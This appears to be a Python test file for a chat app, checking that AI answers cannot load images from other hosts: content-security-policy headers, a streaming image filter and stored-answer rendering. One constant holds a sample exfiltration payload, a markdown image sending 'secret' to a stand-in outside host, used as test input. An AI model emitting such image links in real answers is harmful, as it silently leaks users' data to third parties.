"""A picture's address in a text would carry data to another host without a click."""

import random
from collections.abc import Awaitable, Callable
from uuid import uuid4

import httpx
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy.ext.asyncio import AsyncSession

from models import User
from services.conversations import open_conversation, record_answer, record_user_message
from tests.ui.pages import ChatPage
from ui.output import ImageGate, without_images

LEAK = "Look: ![chart](https://elsewhere.example/?q=secret)"


def directives(policy: str) -> dict[str, str]:
    parts = [part.strip().partition(" ") for part in policy.split(";")]
    return {name: value for name, _, value in parts}


async def test_the_page_loads_pictures_and_scripts_from_this_server_only(visitor: httpx.AsyncClient) -> None:
    policy = directives((await visitor.get("/")).headers["content-security-policy"])
    assert policy["img-src"] == "'self' data: blob:"
    assert policy["connect-src"] == "'self'"
    assert "unsafe-inline" not in policy["script-src"]
    assert "http" not in policy["script-src"] + policy["default-src"] + policy["font-src"]


async def test_the_page_names_no_other_host(visitor: httpx.AsyncClient) -> None:
    html = (await visitor.get("/thread/" + str(uuid4()))).text
    assert "https://" not in html
    assert "http://" not in html


@given(st.text(alphabet="![](a) \n", max_size=60), st.integers())
def test_no_cut_of_a_stream_lets_an_image_through(text: str, seed: int) -> None:
    cuts = sorted(random.Random(seed).randint(0, len(text)) for _ in range(4))
    pieces = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    gate = ImageGate()
    shown = "".join(gate.passed(piece) for piece in pieces) + gate.rest()
    assert "![" not in shown
    assert shown == without_images(text)


def test_a_text_without_images_is_left_alone() -> None:
    text = "Great! [Profile](/x) a!b !"
    assert without_images(text) == text


async def test_a_stored_answer_is_shown_without_its_image(
    open_page: Callable[..., Awaitable[ChatPage]],
    make_user: Callable[..., Awaitable[User]],
    session: AsyncSession,
) -> None:
    user = await make_user()
    conversation_id = uuid4()
    conversation = await open_conversation(session, user.id, conversation_id)
    await record_user_message(session, conversation, message_id=uuid4(), text="Hi")
    await record_answer(session, conversation, message_id=uuid4(), text=LEAK, ui={"run_id": str(uuid4())})
    await session.commit()
    thread = await (await open_page(user, thread_id=str(conversation_id))).resume()
    assert [step["output"] for step in thread["steps"] if step["type"] == "assistant_message"] == [
        "Look: [chart](https://elsewhere.example/?q=secret)"
    ]
